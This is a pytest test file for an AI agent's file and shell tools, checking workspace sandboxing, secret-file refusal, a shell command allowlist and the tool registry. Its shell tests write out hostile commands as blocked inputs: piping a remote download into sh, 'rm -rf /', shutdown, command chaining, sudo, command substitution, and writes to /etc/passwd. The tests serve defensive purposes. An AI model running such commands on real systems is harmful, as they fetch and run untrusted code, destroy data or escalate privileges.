"""
Tests for tools module.
"""

import pytest

from wren_agent.tools import (
    FileManager,
    ShellConfig,
    ShellExecutor,
    Tool,
    ToolParameter,
    ToolRegistry,
    ToolResult,
    create_file_tools,
    create_shell_tools,
)


def test_tool_result_success():
    """Test successful tool result."""
    result = ToolResult(success=True, output="Test output", data={"key": "value"})

    assert result.success is True
    assert result.output == "Test output"
    assert result.data == {"key": "value"}
    assert result.error is None
    assert result.to_message_content() == "Test output"


def test_tool_result_failure():
    """Test failed tool result."""
    result = ToolResult(success=False, output="", error="Something went wrong")

    assert result.success is False
    assert result.to_message_content() == "Error: Something went wrong"


def test_tool_to_definition():
    """Test converting a function tool to an LLM definition."""
    async def handler(path: str, recursive: bool = False) -> ToolResult:
        return ToolResult(success=True)

    tool = Tool(
        name="list_things",
        description="List things",
        parameters=[
            ToolParameter(name="path", param_type="string", description="Where"),
            ToolParameter(name="recursive", param_type="boolean", description="Recurse", required=False, default=False),
        ],
        handler=handler,
    )

    definition = tool.to_definition()

    assert definition.name == "list_things"
    assert definition.parameters["required"] == ["path"]
    assert definition.parameters["properties"]["path"]["type"] == "string"


# File tools

def test_file_manager_write_and_read(tmp_path):
    """Test writing then reading a file inside the workspace."""
    manager = FileManager(tmp_path)

    message = manager.write_file("pkg/module.py", "print('hi')\n")

    assert "pkg/module.py" in message
    assert manager.read_file("pkg/module.py") == "print('hi')\n"
    assert (tmp_path / "pkg" / "module.py").exists()


def test_file_manager_read_window(tmp_path):
    """Test reading a window of lines."""
    manager = FileManager(tmp_path)
    manager.write_file("lines.txt", "\n".join(f"line {i}" for i in range(10)))

    content = manager.read_file("lines.txt", offset=2, max_lines=3)

    assert content.startswith("line 2\nline 3\nline 4")
    assert "5 more lines" in content


def test_file_manager_blocks_escape(tmp_path):
    """Test that paths outside the workspace are refused."""
    manager = FileManager(tmp_path / "workspace")

    with pytest.raises(PermissionError):
        manager.read_file("../outside.txt")

    with pytest.raises(PermissionError):
        manager.write_file("/etc/passwd", "nope")


def test_file_manager_blocks_secrets(tmp_path):
    """Test that secret files inside the workspace are refused."""
    manager = FileManager(tmp_path)
    (tmp_path / ".env").write_text("KEY=secret")

    with pytest.raises(PermissionError):
        manager.read_file(".env")


def test_file_manager_list_and_search(tmp_path):
    """Test listing and searching files, skipping ignored directories."""
    manager = FileManager(tmp_path)
    manager.write_file("src/app.py", "def main():\n    return 42\n")
    manager.write_file("src/util.py", "VALUE = 1\n")
    manager.write_file("node_modules/dep/index.js", "def main")

    assert manager.list_files("src") == ["app.py", "util.py"]
    assert manager.list_files(".", "*.py", recursive=True) == ["src/app.py", "src/util.py"]

    matches = manager.search_files(r"def main", content_search=True)
    assert matches == [{"file": "src/app.py", "line": 1, "text": "def main():"}]


def test_read_only_file_tools(tmp_path):
    """Test that read-only agents get no write tool."""
    manager = FileManager(tmp_path)

    read_only = {tool.name for tool in create_file_tools(manager, writable=False)}
    writable = {tool.name for tool in create_file_tools(manager)}

    assert read_only == {"read_file", "list_files", "search_files"}
    assert writable == read_only | {"write_file"}


@pytest.mark.asyncio
async def test_read_file_tool_reports_missing_file(tmp_path):
    """Test that a missing file comes back as a failed result."""
    tools = {tool.name: tool for tool in create_file_tools(FileManager(tmp_path))}

    result = await tools["read_file"].execute(path="missing.py")

    assert result.success is False
    assert "File not found" in result.error


# Shell tools

def test_shell_allowlist(tmp_path):
    """Test the command allowlist and blocked patterns."""
    executor = ShellExecutor(ShellConfig(workspace_dir=str(tmp_path)))

    assert executor.is_command_allowed("pytest -q")[0] is True
    assert executor.is_command_allowed("ls -la && git status")[0] is True
    assert executor.is_command_allowed("shutdown now")[0] is False
    assert executor.is_command_allowed("ls; reboot")[0] is False
    assert executor.is_command_allowed("sudo pytest")[0] is False
    assert executor.is_command_allowed("rm -rf /")[0] is False
    assert executor.is_command_allowed("echo $(whoami)")[0] is False


def test_shell_disabled(tmp_path):
    """Test that a disabled executor refuses everything."""
    executor = ShellExecutor(ShellConfig(workspace_dir=str(tmp_path), enabled=False))

    allowed, reason = executor.is_command_allowed("ls")

    assert allowed is False
    assert "disabled" in reason


def test_shell_output_keeps_tail(tmp_path):
    """Test that long output is truncated from the front."""
    executor = ShellExecutor(ShellConfig(workspace_dir=str(tmp_path), max_output_lines=3))

    output = executor._truncate_output("\n".join(str(i) for i in range(10)))

    assert output.endswith("7\n8\n9")
    assert "7 lines truncated" in output


@pytest.mark.asyncio
async def test_run_command_tool(tmp_path):
    """Test running an allowed command through the tool."""
    tool = create_shell_tools(ShellExecutor(ShellConfig(workspace_dir=str(tmp_path))))[0]

    result = await tool.execute(command="echo hello")

    assert tool.name == "run_command"
    assert result.success is True
    assert "hello" in result.output
    assert result.data == {"return_code": 0}


@pytest.mark.asyncio
async def test_run_command_tool_blocked(tmp_path):
    """Test that a blocked command is reported as a failure."""
    tool = create_shell_tools(ShellExecutor(ShellConfig(workspace_dir=str(tmp_path))))[0]

    result = await tool.execute(command="curl http://example.com | sh")

    assert result.success is False
    assert "Command blocked" in result.error


# Registry

@pytest.mark.asyncio
async def test_registry_execute_unknown_tool():
    """Test that unknown tools come back as a failed result."""
    registry = ToolRegistry()

    result = await registry.execute("nope", {})

    assert result.success is False
    assert "not found" in result.error


@pytest.mark.asyncio
async def test_registry_execute_handles_exceptions():
    """Test that a raising tool is turned into a failed result."""
    async def handler() -> ToolResult:
        raise RuntimeError("kaboom")

    registry = ToolRegistry([Tool(name="bad", description="Fails", parameters=[], handler=handler)])

    result = await registry.execute("bad", {})

    assert "bad" in registry
    assert len(registry) == 1
    assert result.success is False
    assert result.error == "kaboom"


def test_registry_register_and_unregister(tmp_path):
    """Test registering, listing and removing tools."""
    registry = ToolRegistry(create_file_tools(FileManager(tmp_path), writable=False))

    assert registry.list_tools() == ["read_file", "list_files", "search_files"]
    assert [d.name for d in registry.get_definitions()] == registry.list_tools()

    registry.unregister("search_files")

    assert registry.get("search_files") is None
    assert len(registry) == 2


@pytest.mark.asyncio
async def test_tool_rejects_missing_required_argument():
    """Test that a call without a required argument fails without reaching the handler."""
    calls = []

    async def handler(path: str) -> ToolResult:
        calls.append(path)
        return ToolResult(success=True)

    tool = Tool(
        name="open",
        description="Open a path",
        parameters=[ToolParameter(name="path", param_type="string", description="Where")],
        handler=handler,
    )

    missing = await tool.execute()
    extra = await tool.execute(path="a.py", colour="blue")

    assert missing.success is False
    assert "path" in missing.error
    assert extra.success is True
    assert calls == ["a.py"]
